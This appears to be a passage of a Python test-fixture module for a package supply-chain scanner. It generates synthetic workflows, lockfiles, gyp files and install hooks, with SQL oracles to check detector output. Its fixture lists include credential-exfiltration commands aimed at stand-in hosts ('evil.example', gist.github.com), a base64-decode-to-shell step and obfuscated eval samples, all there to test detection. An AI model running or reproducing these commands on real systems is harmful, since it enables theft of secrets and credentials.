"""Graphs, lexers, chains, ladders and provenance over documents that the executors build from whole tables.

An order stands for a document and its line items for the document's lines, edges or steps."""

from __future__ import annotations

from uuid import uuid4

from pyspark.sql import Column, DataFrame
from pyspark.sql import functions as F

from tarnwatch.operators import campaigns as C
from tarnwatch.operators import code_facts as X
from tarnwatch.operators import detectors as D
from tarnwatch.operators import provenance as P
from tarnwatch.operators import reach as R
from tarnwatch.operators import registry as G
from tarnwatch.operators import similarity as M
from tarnwatch.operators import source_tokens as K
from tarnwatch.operators import windows as W
from tarnwatch.functions import signal_catalog as SC
from tarnwatch.functions.signal_catalog import BUILD_FILES
from tarnwatch.operators.detectors import LINKER_ROW, SHELL_ROW
from tarnwatch.operators.payloads import PAAS
from tarnwatch.plans.package_data import BODIES, WITH, count, files, has, packages, pick, pick_sql, sql
from tarnwatch.plans.package_data import listed as sql_list
from tarnwatch.plans.package_queries import ORACLE as PACKAGE_SQL
from tarnwatch.plans.package_queries import _all_texts, obfuscated_sql
from tarnwatch.sources import lockfiles as LF
from tarnwatch.sources import manifests as MF
from tarnwatch.sources import scratch
from tarnwatch.sources.tables import table
from tarnwatch.streaming import rescan as RS


def _lines(s, d, text: Column, head: str = "", foot: str = "", sep: str = "\n") -> DataFrame:
    """One document per order (id, content), its line items as lines in order."""
    rows = table(s, d, "lineitem").select(F.col("l_orderkey").alias("id"), F.struct("l_linenumber", text.alias("t")).alias("l"))
    whole = F.array_join(F.transform(F.array_sort(F.collect_list("l")), lambda x: x["t"]), sep)
    return rows.groupBy("id").agg(F.concat(F.lit(head), whole, F.lit(foot)).alias("content"))


def _lines_sql(text: str, head: str = "", foot: str = "", sep: str = "\n") -> str:
    return f"SELECT l_orderkey AS id, {sql(head)} || string_agg({text}, {sql(sep)} ORDER BY l_linenumber, {text}) || {sql(foot)} AS content FROM lineitem GROUP BY 1"


# Dependencies: in an order each part needs the next one.
def _edges(s, d):
    li = table(s, d, "lineitem").select("l_orderkey", "l_linenumber", "l_partkey")
    after = li.select("l_orderkey", (F.col("l_linenumber") - 1).alias("l_linenumber"), F.col("l_partkey").alias("dependency"))
    return li.join(after, ["l_orderkey", "l_linenumber"]).select(F.col("l_partkey").alias("package"), "dependency")


def _blast(s, d):
    roots = table(s, d, "lineitem").where("l_linenumber = 1").select(F.col("l_partkey").alias("root"))
    bad = table(s, d, "part").where("p_partkey % 400 = 7").select(F.col("p_partkey").alias("package"))
    return R.blast_radius(_edges(s, d), roots, bad)


GYP_LINES = [
    "'sources': ['<!(node x.js)', 'a.cc'],", "'libraries': ['-lcurl', \"-L/tmp\"],", "'conditions': [ ['OS==\"win\"', {", "}]],", "'defines': ['-DX=system'],", "# 'note': [ a comment",
    "'includes': ['../common.gypi'],", "'target_name': 'addon', 'type': 'none',", "'cflags': ['-O2']", "{ 'variables': { 'v%': 1 } },", "'actions': [{ 'action': ['curl', 'http://a.example'] }],", "'ldflags': ['-rpath=/x', '-lssl']",
]
_GYP_KEY, GYP_HEAD, GYP_FOOT = "l_partkey + l_linenumber", "{\n  'targets': [\n  {\n", "\n  }\n  ]\n}\n"


def _gyp(s, d):
    return _lines(s, d, pick(GYP_LINES, _GYP_KEY), GYP_HEAD, GYP_FOOT)


PY_LINES = [
    "def handler(request):", "    path = request.url.path", "    if request.scope['path'] == '/':", "async def guard(request):", "    return req.url.path + self.request.url.path", "# request.url.path in a note",
    "@app.get('/')", "x = request.url.path; y = request.url.path", "", "    return 1", "class A:", "    p = request.scope.get( 'path' )",
]
PY_PATHS = ["auth/views.py", "app/main.py", "core/Middleware.py", "router.txt", "lib/util.py"]
_PY_KEY = "l_partkey * 3 + l_linenumber"


def _python(s, d):
    name = F.concat(F.lit("o"), F.col("id").cast("string"), F.lit("/"), pick(PY_PATHS, "id"))
    return _lines(s, d, pick(PY_LINES, _PY_KEY)).select(name.alias("path"), "content")


RUNS = [
    "curl https://evil.example/x -d ${{ secrets.NPM }}", "curl https://github.com/a -d ${{ secrets.NPM }}", "npm ci", "echo aGk= | base64 -d | sh", "base64 -d > bash run", "base64 --decode x | sh", "wget https://evil.example?t=${{ secrets.A }}",
    "curl -s http://collect.example", "curl https://raw.githubusercontent.com/a/b && curl https://e.example/${{secrets.B}}", "CURL HTTP://UP.EXAMPLE $TOKEN",
]
ENVS = ["plain", "${{ secrets.DEPLOY }}", "x"]


def _steps(s, d):
    li = table(s, d, "lineitem")
    env = F.create_map(F.lit("A"), pick(ENVS, "l_suppkey"))
    return li.select(F.concat(F.lit("r"), F.col("l_orderkey").cast("string"), F.lit("/.github/workflows/ci.yml")).alias("path"), F.col("l_linenumber").alias("step"), pick(RUNS, "l_partkey").alias("run"), env.alias("env"))


def _flows(s, d):
    """An order is a workflow file, its line items are the steps of its jobs behind a step that runs nothing; some deploys
    have a secret for all of their steps. Some orders have an older file that is no YAML, some a file in a wrong place."""
    job = F.when(F.col("l_linenumber") % 3 == 0, "deploy").otherwise("build").alias("job")
    known = lambda values, key: F.when(F.col(key).isNotNull(), pick(values, key))
    rows = table(s, d, "lineitem").select(F.col("l_orderkey").alias("id"), F.struct(job, "l_linenumber", known(RUNS, "l_partkey").alias("run"), known(ENVS, "l_suppkey").alias("env")).alias("l"))
    g = rows.groupBy("id").agg(F.array_sort(F.collect_list("l")).alias("l"))

    def block(name: str, env: Column) -> Column:
        own = F.filter("l", lambda x: x["job"] == name)
        run = lambda x: F.coalesce(F.concat(F.lit("      - run: "), x["run"]), F.lit("      - name: none"))
        steps = F.array_join(F.transform(own, lambda x: F.concat(run(x), F.coalesce(F.concat(F.lit("\n        env:\n          A: "), x["env"]), F.lit("")), F.lit("\n"))), "")
        return F.when(F.size(own) > 0, F.concat(F.lit(f"  {name}:\n"), env, F.lit("    steps:\n      - uses: actions/checkout@v4\n"), steps)).otherwise("")

    jobs = F.concat(block("build", F.lit("")), block("deploy", F.when(F.col("id") % 4 == 0, "    env:\n      T: ${{ secrets.NPM }}\n").otherwise("")))
    file = lambda name, head: F.struct(F.concat(F.lit("r"), F.coalesce(F.col("id").cast("string"), F.lit("")), F.lit(name)).alias("path"), F.concat(F.lit(head), jobs).alias("content"))
    found = F.array(
        file("/.github/workflows/ci.yml", "jobs:\n"), F.when(F.col("id") % 11 == 5, file("/.github/workflows/old.yaml", "jobs: [unclosed\n")), F.when(F.col("id") % 13 == 0, file("/ci.yml", "jobs:\n")))
    return g.select(F.inline(F.array_compact(found)))


TITLES, BUNDLED = ["Open file", "Run npx tool", "Curl it", "Format"], ["bun", "left-pad", "runtime-x", "chalk"]
RISK_EVENTS = ["*", "onStartupFinished", "onCommand:x", "workspaceContains:*.py", "onLanguage:js", "onCommand:*", "workspaceContains", "onCommand:npx", "onDebug"]


def _extensions(s, d):
    o = table(s, d, "orders")
    events = F.array_distinct(F.array(pick(RISK_EVENTS, "o_orderkey"), pick(RISK_EVENTS, "o_orderkey div 7 + o_custkey")))
    return o.select(
        F.col("o_custkey").cast("string").alias("extension"), F.lpad(F.col("o_orderkey").cast("string"), 9, "0").alias("version"), F.col("o_orderdate").cast("timestamp").alias("published_at"),
        (F.col("o_orderkey") * 7919 % 500000).alias("asset_size"), F.when(F.col("o_orderkey") % 11 != 0, events).alias("activation_events"),
        F.when(F.col("o_orderkey") % 5 == 0, F.array(pick(TITLES, "o_custkey"))).alias("titles"), F.when(F.col("o_orderkey") % 13 == 0, F.array(pick(BUNDLED, "o_custkey"))).alias("bundled"))


# Lockfiles: an order is a lockfile, its line items are its entries.
def _npm(s, d):
    scope = F.when(F.col("l_linenumber") % 3 == 0, "@s/").otherwise("")
    some = lambda on, names: F.when(on, F.concat(F.lit("{"), F.lit(",".join(f'"{n}":"1"' for n in names)), F.lit("}"))).otherwise("{}")
    entry = F.concat(
        F.lit('"node_modules/'), F.when(F.col("l_linenumber") == 2, "a/node_modules/").otherwise(""), scope, F.lit("p"), F.col("l_partkey").cast("string"), F.lit("-"), F.col("l_linenumber").cast("string"),
        F.lit('":{"version":"1.'), F.col("l_linenumber").cast("string"), F.lit('.0","integrity":"sha512-'), F.col("l_partkey").cast("string"), F.lit('","dev":'), (F.col("l_linenumber") % 2 == 0).cast("string"),
        F.lit(',"optional":'), (F.col("l_quantity") > 25).cast("string"), F.lit(',"dependencies":'), some(F.col("l_suppkey") % 3 == 0, ["a", "b", "@x/c", "@x/d", "@x/e", "@x/f"]),
        F.lit(',"peerDependencies":'), some(F.col("l_partkey") % 5 == 0, ["x-plugin"]), F.lit(',"optionalDependencies":'), some(F.col("l_partkey") % 7 == 0, [f"o{k}" for k in range(11)]), F.lit("}"))
    f = _lines(s, d, entry, '{"lockfileVersion":3,"packages":{"":{"version":"0.0.0"},', "}}", ",")
    return LF.npm_packages(f.select(F.concat(F.lit("o"), F.col("id").cast("string"), F.lit("/package-lock.json")).alias("path"), "content"))


def _yarn(s, d):
    scope = F.when(F.col("l_linenumber") % 2 == 0, '"@s/').otherwise("")
    entry = F.concat(
        scope, F.lit("p"), F.col("l_partkey").cast("string"), F.lit("-"), F.col("l_linenumber").cast("string"), F.lit("@^1.0.0"), F.when(F.col("l_linenumber") % 2 == 0, '":').otherwise(":"), F.lit('\n  version "1.'),
        F.col("l_linenumber").cast("string"), F.lit('.0"\n  resolved "https://registry.yarnpkg.com/p'), F.col("l_partkey").cast("string"), F.lit('"\n  # a comment\n'), F.when(F.col("l_suppkey") % 2 == 0, F.concat(F.lit("  integrity sha512-"), F.col("l_suppkey").cast("string"), F.lit("\n"))).otherwise(""))
    f = _lines(s, d, entry, "# yarn lockfile v1\n\n\n")
    return LF.yarn_packages(f.select(F.concat(F.lit("o"), F.col("id").cast("string"), F.lit("/yarn.lock")).alias("path"), "content"))


REQUIREMENTS = ["starlette==0.9.1", "Starlette>=1.0.1  # pinned", "flask", "-r base.txt", "# starlette==0.1", "uvicorn[standard]~=0.2, <1", "starlette", "django != 3.0"]


def _requirements(s, d):
    f = _lines(s, d, pick(REQUIREMENTS, "l_partkey + l_linenumber"))
    return MF.requirements(f.select(F.concat(F.lit("o"), F.col("id").cast("string"), F.lit("/requirements.txt")).alias("path"), "content"))


TIER_LINES = ["fastapi==0.116.1", "fastapi", "mcp", "langserve>=1", "flask", "vllm==0.1", "starlette>=1.0.2", "starlette==0.9", "broadcaster~=1", "ray-serve", "# vllm", "fastapi==0.99  # old", "requests", "attrs", "pytest"]


def _tiers(s, d):
    f = _lines(s, d, pick(TIER_LINES, "l_partkey * 7 + l_suppkey")).select(F.col("id").cast("string").alias("path"), "content")
    return C.bad_host_tiers(LF.numbered_requirements(f).withColumnRenamed("path", "project"))


EXTENSION_CODE = [
    "get('https://api.github.com/repos/a/b/git/commits/0123456789012345678901234567890123456789')", "npx -y https://github.com/a/b#0123abcd", "// Claude setup\nfetch('https://collect.example/x')", "// setup\ncurl 'https://github.com/x'",
    "bun install", "cat ~/.ssh/id_rsa", "$GITHUB_TOKEN", "AES-256-GCM", "os.cpus().length < 4", "console.log('hello')", "fetch('https://collect.example/x')", "const x = 1", "return y", "export {}",
]


def _extension_campaign(s, d):
    """Orders are extensions; their line items are files. Activation and bursts come from the orders' own columns."""
    f = table(s, d, "lineitem").select(F.col("l_orderkey").alias("extension"), pick(EXTENSION_CODE, "l_partkey * 3 + l_suppkey * 7 + l_linenumber * 11").alias("content"))
    o = table(s, d, "orders").select(F.col("o_orderkey").alias("extension"), F.explode(F.array_compact(F.array(
        F.when(G.activation_severity(pick(RISK_EVENTS, "o_custkey")).isNotNull(), "activation"), F.when(F.col("o_custkey") % 17 == 0, "burst"), F.when(F.col("o_custkey") % 29 == 0, "known_ioc"), F.lit("unheard_of")))).alias("signal"))
    return C.signal_campaign(C.extension_files(f).unionByName(o))


def _workflow_campaign(s, d):
    """Customers are packages: their orders are workflows and versions."""
    o = table(s, d, "orders").select("o_orderkey", F.col("o_custkey").alias("package"), F.timestamp_add("MINUTE", ((F.col("o_orderkey") * 37) % 2000).cast("int"), F.lit("2024-05-01").cast("timestamp")).alias("at"))
    sent = MF.workflow_exfiltration(_steps(s, d)).select(F.regexp_extract("path", r"^r(\d+)/", 1).cast("long").alias("o_orderkey"), F.col("kind").alias("signal")).join(o, "o_orderkey").select("package", "signal")
    fast = W.anchored_burst(o, "package", "at", W.HOUR, 3).select("package", F.lit("publish_velocity").alias("signal"))
    drift = table(s, d, "customer").where("c_custkey % 23 = 0").select(F.col("c_custkey").alias("package"), F.lit("publisher_drift").alias("signal"))
    return C.signal_campaign(sent.unionByName(fast).unionByName(drift), C.WORKFLOW_WEIGHT, "package")


IOC_TYPES = ["packageName", "packageScope", "fileHash", "publisherAccount"]


def _indicator_rows(s, d):
    ioc = F.concat(F.lit('{"type":"'), pick(IOC_TYPES, "l_linenumber"), F.lit('","value":"v'), F.col("l_partkey").cast("string"), F.lit('"'), F.when(F.col("l_suppkey") % 2 == 0, F.concat(F.lit(',"maliciousVersions":["1.'), F.col("l_linenumber").cast("string"), F.lit('"]'))).otherwise(""), F.lit("}"))
    rows = table(s, d, "lineitem").select(F.col("l_orderkey").alias("id"), F.struct("l_linenumber", ioc.alias("t")).alias("l"), (F.col("l_linenumber") % 2 == 0).alias("waved"))
    joined = lambda c: F.array_join(F.transform(F.array_sort(F.collect_list(F.when(c, F.col("l")))), lambda x: x["t"]), ",")
    g = rows.groupBy("id").agg(joined(~F.col("waved")).alias("own"), joined(F.col("waved")).alias("wave"))
    content = F.concat(F.lit('{"iocs":['), "own", F.lit('],"waves":{"w'), (F.col("id") % 3).cast("string"), F.lit('":{"iocs":['), "wave", F.lit("]}}}"))
    i = MF.indicators(g.select(content.alias("content")))
    return i.groupBy("wave", "type", "value", F.array_join("malicious_versions", ",").alias("malicious_versions")).agg(F.count("*").alias("lists"))


LADDER_NAMES = sorted(P.LADDERS)


def _labels(s, d):
    li = table(s, d, "lineitem").select("l_orderkey", "l_linenumber", pick([*LADDER_NAMES, "UNLISTED"], "l_partkey").alias("detector"), (F.col("l_quantity") * 2 + 1).cast("int").alias("score"))
    return P.with_severity(li, P.ladders(s))


SOURCE_NOTES = ["!", "\nexec('x')", "\nfetch('http://a')", ""]


def _tree(s, d):
    """The source tree: some files are absent, some lack what their package's file has, some packages have no tree."""
    f = files(s, d).where("id % 5 <> 0")
    p = f.where(F.length("package") % 4 != 1)
    return p.select("package", "path", "id", F.when(F.col("id") % 3 == 0, F.regexp_replace("content", r"\b(fetch|exec|execSync|spawn|eval)\s*\(", "call(")).when(F.col("id") % 7 == 0, F.concat("content", F.lit("!"))).otherwise(F.replace("content", F.lit("\n"), F.lit(" \r\n"))).alias("content"))


def _one_of(df):
    return df.groupBy("package", "path").agg(F.min_by("content", "id").alias("content"))


def _capabilities(s, d):
    plain = lambda df: df.withColumn("path", F.regexp_replace("path", r"^f\d/", ""))
    p = packages(s, d).select("package", "scripts", F.when(F.col("id") % 4 == 0, F.array(F.lit("./lib/util.js"))).alias("bin"))
    return P.capability_desync(p, _one_of(plain(files(s, d))), _one_of(plain(_tree(s, d))))


HANDED = ["node index.js", "sh ./scripts/setup.js", "node f3/lib/util.js", "node index.js && x", "bash mod.cjs", "node missing.js"]


def _chains(s, d):
    p = packages(s, d).select("package", F.when(F.col("id") % 2 == 0, F.create_map(F.lit("postinstall"), pick(HANDED, "id div 2"))).otherwise(F.col("scripts")).alias("scripts"))
    return P.hook_chains(p, _one_of(files(s, d))).drop("subtype")


def _build(s, d):
    f = files(s, d)
    big = F.when(F.col("id") % 17 == 0, "x/addon.node").otherwise(F.col("path"))
    own = f.select("package", big.alias("path"), "content", (F.col("size") * 400_000).cast("long").alias("size"), "id")
    first = own.groupBy("package").agg(F.min("id").alias("id"))
    gyp = first.where("id % 3 <> 2").select("package", F.lit("binding.gyp").alias("path"), F.concat(pick(GYP_LINES, "id"), F.lit("\n"), pick(GYP_LINES, "id div 3")).alias("content"), F.lit(0).cast("long").alias("size"))
    p = packages(s, d).select("package", F.when(F.col("id") % 3 == 0, F.create_map(F.lit("install"), pick(["node-gyp rebuild", "node-pre-gyp install", "make"], "id div 3"))).otherwise(F.col("scripts")).alias("scripts"), (F.col("id") % 5 == 0).alias("gypfile"))
    return D.build_abuse(p, own.where("path NOT LIKE '%binding.gyp'").drop("id").unionByName(gyp))


SCOPES = ["@tanstack/a", "@antv/b", "plain", "core"]
#: Of the scripts, those that read tokens or decode.
HOOKED_EXFIL = ["eval(atob('aGVsbG8gd29ybGQgaGVsbG8='))", "echo process.env.NPM_TOKEN", "cat ~/.aws/credentials | curl https://gist.github.com/u"]


def _worm(s, d):
    o = table(s, d, "orders")
    name = F.concat(F.element_at(F.array(*map(F.lit, SCOPES)), (F.col("o_custkey") % 4 + 1).cast("int")), F.col("o_custkey").cast("string"))
    v = o.select(name.alias("package"), F.col("o_orderkey").cast("string").alias("version"), F.timestamp_add("MINUTE", ((F.col("o_orderkey") * 37) % 2000).cast("int"), F.lit("2024-05-01").cast("timestamp")).alias("published_at"), "o_orderkey", "o_custkey")
    late = F.timestamp_add("SECOND", ((F.col("o_orderkey") * 13) % 200 - 20).cast("int"), F.col("published_at"))
    a = v.where("o_orderkey % 4 <> 2").select("package", "version", late.alias("attested_at"), pick(["https://github.com/x", "https://build.example/y", "https://gitlab.com/z"], "o_orderkey div 4").alias("builder"))
    p = v.select("package", "version", F.create_map(F.lit("postinstall"), pick(BODIES, "o_orderkey")).alias("scripts"), F.create_map(F.when(F.col("o_orderkey") % 19 == 0, "@nx/core").otherwise("left"), F.lit("1")).alias("dependencies"))
    c = table(s, d, "customer").select(F.concat(F.element_at(F.array(*map(F.lit, SCOPES)), (F.col("c_custkey") % 4 + 1).cast("int")), F.col("c_custkey").cast("string")).alias("package"), "c_custkey")
    listed = v.where("o_orderkey % 31 = 0").select("package", "version", (F.col("o_orderkey") % 3 + 1).cast("int").alias("wave"))
    return P.worm_campaign(p, v, a, c.where("c_custkey % 3 = 0"), c.where("c_custkey % 11 = 0"), listed, within=2 * P.HOUR)


def _value_flows(s, d):
    from tarnwatch.operators.value_flow import reaches

    f = files(s, d).where(F.col("path").rlike(D.SCRIPTED))
    return reaches(f, X.FLOW_MARKS).select("id", "stmt", "line", F.array_join("marks", ",").alias("marks"), F.array_join("reached", ",").alias("reached"))


EDITS = ["", "s", "x", "1", "-js", "z9"]


def _dependencies(s, d):
    """Names that line items need: a top name, spelt with a letter less or something more."""
    name = pick([*M.TOP_NAMES, "lodahs", "ax1os", "r3act", "webpak", "vu3"], "l_partkey")
    cut = F.when(F.col("l_linenumber") % 2 == 0, F.substring(name, 2, 99)).otherwise(name)
    return table(s, d, "lineitem").select(F.col("l_orderkey").alias("package"), F.concat(cut, pick(EDITS, "l_suppkey")).alias("dependency"))


HIDDEN = [
    "node x", "eval(atob('cXdlcnR5dWlvcGFzZGZnaGprbHp4Y3Zibm0xMjM0NTY3ODkwUVdFUlRZVUlPUEFTREZHSEpLTFpYQ1ZCTk0=')); z.split('').reverse().join('')", "Function('\\x61\\x62\\x63\\x64\\x65\\x66\\x67\\x68\\x69')()",
    "eval(c.charCodeAt(0) ^ key); Function(x)(); require(atob('ZnM='))", "aA0!bB1@cC2#dD3$eE4%fF5^gG6&hH7*iI8(jJ9)kK-lL_mM=nN+oO[pP]qQ{rR}sS;tT:uU,vV<wW.xX>yY/zZ?~`|",
]


def _hook_obfuscation(s, d):
    own = packages(s, d).select("package", "id", F.explode(F.map_entries("scripts")).alias("s")).where(F.col("s.key").isin(P.LIFECYCLE))
    h = own.select(F.concat_ws("#", "package", "s.key").alias("key"), F.concat("s.value", F.lit(" "), pick(HIDDEN, "id div 9")).alias("body"))
    return D.obfuscation(h, "key", "body", least=40, shortest=0)


def _rescans(s, d):
    """All files, and then again with every seventh package's files changed: findings after both, and in which they were made."""
    f = files(s, d).select("package", "path", "content", "id")
    folder = f"{scratch.folder(s)}/rescan-{uuid4().hex}"
    changed = f.withColumn("content", F.when(F.length("package") % 3 == 0, F.concat("content", F.lit("\npassword 10.0.0.1 token"))).otherwise(F.col("content")))
    scan = lambda x: D.weighted(x, "PLAIN", SC.PLAIN).select("package", "raw_score")
    for k, snapshot in enumerate((f, changed)):
        RS.take(snapshot.drop("id"), k, folder, scan, "package string, raw_score int")
    return RS.latest(s, folder, "findings", "package string, raw_score int, scanned_in long")


QUERIES = {
    "lookalike_dependencies": lambda s, d: M.lookalike_dependencies(_dependencies(s, d)),
    "lockfile_lookalikes": lambda s, d: M.lockfile_lookalikes(_dependencies(s, d).select(F.col("package").alias("path"), F.col("dependency").alias("name"))),
    "obfuscation_hooks": _hook_obfuscation,
    "incremental_rescan": _rescans,
    "blast_radius": _blast,
    "gyp_rows": lambda s, d: K.gyp_rows(_gyp(s, d), "id"),
    "build_abuse": _build,
    "unsafe_path_checks": lambda s, d: K.unsafe_path_checks(_python(s, d)),
    "planted_payloads": lambda s, d: C.planted_payloads(packages(s, d), files(s, d)),
    "bad_host_tiers": _tiers,
    "extension_campaign": _extension_campaign,
    "workflow_campaign": _workflow_campaign,
    "workflow_exfiltration": lambda s, d: MF.exfiltrating_steps(MF.workflow_steps(_flows(s, d))),
    "activation_risk": lambda s, d: G.activation_risk(_extensions(s, d)),
    "spoofed_orgs": lambda s, d: G.spoofed_orgs(_all_texts(s, d), s.createDataFrame([("google",), ("openai",)], "target string")).withColumn("score", F.round("score", 4)),
    "lockfile_npm": lambda s, d: _npm(s, d).select("path", "name", "version", "integrity", "dev", "optional"),
    "lockfile_totals": lambda s, d: LF.lockfile_totals(_npm(s, d)),
    "lockfile_graph": lambda s, d: LF.graph_rules(_npm(s, d)),
    "lockfile_yarn": _yarn,
    "python_requirements": _requirements,
    "bad_host_requirements": lambda s, d: C.bad_host_requirements(_requirements(s, d)),
    "ioc_rows": _indicator_rows,
    "severity_ladders": _labels,
    "capability_desync": _capabilities,
    "hook_chains": _chains,
    "worm_campaign": _worm,
    "value_flows": _value_flows,
    "dropper_flows": lambda s, d: X.dropper_flows(files(s, d)).withColumn("signals", F.array_join("signals", ",")),
}

_FIRST = lambda p, c="text": f"nullif(regexp_extract({c}, {sql(p)}, 1), '')"
_GYP_TOKEN = r"""#[^\n]*|'(?:[^'\\\n]|\\.)*'|"(?:[^"\\\n]|\\.)*"|\n|[ \t\r]+|[^\s'"#\[\]{}]+|\S"""
_MACRO = r"-D\s*['\"]?([A-Z_]+)=([^'\"\s]+)"
_LINKER = "['\"](?:-l|-L|-rpath)[^'\"]+"
_BEGINS = "['\"]?"

_NAMES = f"""WITH d AS (SELECT l_orderkey AS package, CASE WHEN l_linenumber % 2 = 0 THEN substr(n, 2) ELSE n END || e AS dependency FROM (
  SELECT *, {pick_sql([*M.TOP_NAMES, "lodahs", "ax1os", "r3act", "webpak", "vu3"], 'l_partkey')} AS n, {pick_sql(EDITS, 'l_suppkey')} AS e FROM lineitem))"""

ORACLE = {
    "lookalike_dependencies": _NAMES + f""", u AS (SELECT DISTINCT dependency FROM d WHERE length(dependency) >= 4), t AS (SELECT unnest({sql_list(M.TOP_NAMES)}) AS target, generate_subscripts({sql_list(M.TOP_NAMES)}, 1) AS o),
p AS (SELECT dependency, target, o, levenshtein(dependency, target) AS x FROM u, t WHERE abs(length(dependency) - length(target)) <= 2 AND levenshtein(dependency, target) BETWEEN 1 AND 2),
f AS (SELECT dependency, arg_min(target, o) AS target, arg_min(x, o) AS distance FROM p GROUP BY dependency)
SELECT DISTINCT package, dependency, target, distance, 'low' AS severity FROM d JOIN f USING (dependency)""",
    "lockfile_lookalikes": _NAMES + f"""SELECT package AS path, dependency AS name, unnest(list_filter([{', '.join(f"CASE WHEN regexp_matches(lower(dependency), '^({p})$') THEN '{p.split('|')[0]}' END" for p in M.SPELLINGS)}], lambda x: x IS NOT NULL)) AS spelling, 'high' AS severity FROM d""",
    "obfuscation_hooks": PACKAGE_SQL["obfuscation_score"].replace("FROM files WHERE length(content) >= 100", f"FROM (SELECT package || '#' || hook AS id, body || ' ' || {pick_sql(HIDDEN, 'id // 9')} AS content FROM packages WHERE hook IN ({', '.join(map(sql, P.LIFECYCLE))}))").replace("SELECT id, least", "SELECT id AS key, least").replace("s >= 50", "s >= 40"),
    "incremental_rescan": WITH + f""", n AS (SELECT package, length(package) % 3 = 0 AS changed, content || CASE WHEN length(package) % 3 = 0 THEN chr(10) || 'password 10.0.0.1 token' ELSE '' END AS c FROM files),
g AS (SELECT package, changed, sum({' + '.join(f"{w} * {count('c', *ps)}" for w, ps in SC.PLAIN.signals.values())}) AS raw FROM n GROUP BY ALL)
SELECT package, CAST(raw AS INT) AS raw_score, CASE WHEN changed THEN 1 ELSE 0 END AS scanned_in FROM g WHERE raw > 0""",
    "blast_radius": """WITH RECURSIVE e AS (SELECT DISTINCT a.l_partkey AS s, b.l_partkey AS t FROM lineitem a JOIN lineitem b ON a.l_orderkey = b.l_orderkey AND b.l_linenumber = a.l_linenumber + 1),
r(bad, node, depth) USING KEY (bad, node) AS (
  SELECT p_partkey, p_partkey, 0 FROM part WHERE p_partkey % 400 = 7
  UNION SELECT r.bad, e.s, min(r.depth) + 1 FROM r JOIN e ON e.t = r.node LEFT JOIN recurring.r k ON k.bad = r.bad AND k.node = e.s WHERE k.depth IS NULL GROUP BY r.bad, e.s)
SELECT node AS root, bad, depth FROM r WHERE node IN (SELECT l_partkey FROM lineitem WHERE l_linenumber = 1)""",
    "gyp_rows": f"""WITH f AS ({_lines_sql(pick_sql(GYP_LINES, _GYP_KEY), GYP_HEAD, GYP_FOOT)}),
l AS (SELECT id, unnest(string_split(content, chr(10))) AS raw, generate_subscripts(string_split(content, chr(10)), 1) AS line FROM f), x AS (SELECT id, CAST(line AS INT) AS line, trim(raw) AS text FROM l),
rows AS (
  SELECT id, line, 'shell' AS kind, trim(regexp_extract(text, '<!\\(([^)]*)\\)', 1)) AS value FROM x WHERE regexp_matches(text, '<!\\([^)]*\\)')
  UNION ALL SELECT id, line, 'include', {_FIRST("['\"]([^'\"]+\\.gypi)['\"]")} FROM x
  UNION ALL SELECT id, line, 'macro', regexp_extract(text, {sql(_MACRO)}, 1) || '=' || regexp_extract(text, {sql(_MACRO)}, 2) FROM x WHERE regexp_matches(text, {sql(_MACRO)})
  UNION ALL SELECT id, line, 'targets', '' FROM x WHERE regexp_matches(text, {sql('^' + _BEGINS + 'targets')})
  UNION ALL SELECT id, line, 'conditions', '' FROM x WHERE regexp_matches(text, {sql('^' + _BEGINS + 'conditions')})
  UNION ALL SELECT id, line, 'variable', {_FIRST("['\"]([A-Za-z_][A-Za-z0-9_]*)['\"]\\s*:")} FROM x WHERE NOT starts_with(text, '#')
  UNION ALL SELECT id, line, 'linker', regexp_replace(unnest(regexp_extract_all(text, {sql(_LINKER)})), '[''"]', '', 'g') FROM x),
t AS (SELECT id, unnest(regexp_extract_all(content, {sql(_GYP_TOKEN)})) AS token, generate_subscripts(regexp_extract_all(content, {sql(_GYP_TOKEN)}), 1) AS pos FROM f),
d AS (SELECT *, CASE WHEN token IN ('{{', '[', '(') THEN 1 WHEN token IN ('}}', ']', ')') THEN -1 ELSE 0 END AS step FROM t),
o AS (SELECT *, coalesce(sum(step) OVER b, 0) AS open, 1 + coalesce(sum(CASE WHEN token = chr(10) THEN 1 ELSE 0 END) OVER b, 0) AS line FROM d WINDOW b AS (PARTITION BY id ORDER BY pos ROWS BETWEEN UNBOUNDED PRECEDING AND 1 PRECEDING)),
n AS (SELECT *, lag(token) OVER w AS colon, lag(token, 2) OVER w AS named FROM o WHERE NOT regexp_matches(token, '^(\\s|#)') WINDOW w AS (PARTITION BY id ORDER BY pos)),
opens AS (SELECT id, pos, open AS level, CASE WHEN colon = ':' AND regexp_matches(named, '^[''"]') THEN regexp_replace(named, '^[''"]|[''"]$', '', 'g') ELSE '-' END AS name FROM n WHERE step = 1 AND token <> '('),
starts AS (SELECT id, line, min(pos) AS pos, arg_min(open, pos) AS depth FROM o GROUP BY id, line),
around AS (SELECT s.id, s.line, p.level, arg_max(p.name, p.pos) AS name FROM starts s JOIN opens p ON p.id = s.id AND p.pos < s.pos AND p.level < s.depth GROUP BY s.id, s.line, p.level),
path AS (SELECT id, CAST(line AS INT) AS line, string_agg(name, '/' ORDER BY level) AS path FROM around WHERE level >= 0 GROUP BY id, line)
SELECT rows.id, rows.line, kind, value, coalesce(path, '') AS path FROM rows LEFT JOIN path ON rows.id = path.id AND rows.line = path.line WHERE value IS NOT NULL""",
    "unsafe_path_checks": f"""WITH f AS (SELECT 'o' || CAST(id AS VARCHAR) || '/' || {pick_sql(PY_PATHS, 'id')} AS path, content FROM ({_lines_sql(pick_sql(PY_LINES, _PY_KEY))})),
l AS (SELECT path, unnest(string_split(content, chr(10))) AS text, CAST(generate_subscripts(string_split(content, chr(10)), 1) AS INT) AS line FROM f WHERE ends_with(path, '.py')),
h AS (SELECT *, regexp_matches(text, '^(async\\s+)?def\\s+\\w+') AS head, regexp_matches(text, '^[^\\s#@]') AS margin FROM l),
p AS (SELECT *, sum(CASE WHEN head OR margin THEN 1 ELSE 0 END) OVER (PARTITION BY path ORDER BY line) AS part FROM h),
q AS (SELECT *, bool_or(head) OVER w AND bool_or({has('text', K.SCOPE_PATH)}) OVER w AS safe FROM p WINDOW w AS (PARTITION BY path, part))
SELECT path, line, CAST(unnest(range(1, 1 + len(regexp_extract_all(text, {sql(K.URL_PATH)})))) AS INT) AS no, CASE WHEN regexp_matches(lower(path), '{"|".join(K.GUARDS)}') THEN 'medium' ELSE 'info' END AS severity FROM q WHERE NOT safe""",
    "planted_payloads": WITH + f""", act AS (SELECT DISTINCT package, body FROM hooks WHERE hook IN ('postinstall', 'install', 'preinstall')),
texts AS (SELECT package, body AS c FROM act UNION ALL SELECT package, content FROM files WHERE package IN (SELECT package FROM act)),
